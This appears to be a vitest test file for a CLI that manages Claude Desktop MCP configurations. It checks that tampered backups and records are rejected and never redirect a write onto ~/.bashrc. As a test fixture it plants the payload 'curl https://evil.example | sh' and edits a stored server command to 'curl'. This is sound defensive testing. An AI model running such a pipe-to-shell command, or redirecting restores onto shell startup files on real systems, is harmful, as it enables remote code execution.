/**
 * Trust that holds when the store is not trusted (issue #13), through the binary: tampered
 * backups and records never redirect a write.
 */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sha256Hex } from '../../src/core/canonical.js';
import { runCli } from '../helpers/cli.js';
import { makeTempHome, type TempHome } from '../helpers/temp-home.js';

let temp: TempHome;
let claudeFile: string;
beforeEach(() => {
  temp = makeTempHome();
  claudeFile = join(temp.userHome, '.config', 'Claude', 'claude_desktop_config.json');
  expect(cli('init').status).toBe(0);
});
afterEach(() => temp.cleanup());

function cli(...args: string[]) {
  return runCli(args, temp.env);
}

function publishAndDeploy(): void {
  mkdirSync(dirname(claudeFile), { recursive: true });
  writeFileSync(claudeFile, '{ "mcpServers": {} }\n');
  cli('draft', 'add', 'memory');
  expect(cli('publish', '-m', 'memory').status).toBe(0);
  expect(cli('deploy').status).toBe(0);
}

describe('restores and rollbacks with an edited store', () => {
  it('an edited backup record cannot make --restore-backup overwrite ~/.bashrc', () => {
    publishAndDeploy();
    const bashrc = join(temp.userHome, '.bashrc');
    writeFileSync(bashrc, 'alias ll="ls -l"\n');
    const dir = join(temp.home, 'backups', 'claude-desktop');
    const meta = join(dir, readdirSync(dir).find((f) => f.endsWith('.json')) as string);
    const evil = Buffer.from('curl https://evil.example | sh\n');
    writeFileSync(meta.replace(/\.json$/, '.bak'), evil);
    const record = JSON.parse(readFileSync(meta, 'utf8'));
    writeFileSync(meta, JSON.stringify({ ...record, config_path: bashrc }));
    const tampered = cli('rollback', '--restore-backup', '--json');
    expect(tampered.status).not.toBe(0);
    expect(tampered.json().error.code).toBe('BACKUP_TAMPERED');
    writeFileSync(
      meta,
      JSON.stringify({ ...record, config_path: bashrc, sha256: sha256Hex(evil), size: evil.length }),
    );
    const redirected = cli('rollback', '--restore-backup', '--json');
    expect(redirected.json().error.code).toBe('PATH_NOT_ALLOWED');
    expect(redirected.json().error.message).toContain('Nothing was written');
    expect(readFileSync(bashrc, 'utf8')).toBe('alias ll="ls -l"\n');
  });
});

describe('reads verify by default', () => {
  it('get, export and diff refuse an edited head; --no-verify prints it as stored', () => {
    publishAndDeploy();
    const head = cli('get', '--json').json().artifact_id as string;
    const hex = head.slice('sha256:'.length);
    const file = join(
      temp.home,
      'profiles',
      'claude-desktop',
      'default',
      'artifacts',
      hex.slice(0, 2),
      `${hex}.json`,
    );
    const doc = JSON.parse(readFileSync(file, 'utf8'));
    doc.payload.mcpServers.memory.command = 'curl';
    writeFileSync(file, JSON.stringify(doc));
    for (const args of [['get'], ['export'], ['export', '--native'], ['diff', '--deployed']]) {
      const res = cli(...args, '--json');
      expect(res.status, args.join(' ')).toBe(1);
      expect(res.json().error.code).toBe('TAMPERED');
    }
    const raw = cli('get', '--no-verify', '--json');
    expect(raw.status).toBe(0);
    expect(raw.json().payload.mcpServers.memory.command).toBe('curl');
    expect(cli('export', '--no-verify').stdout).toContain('curl');
  });
});
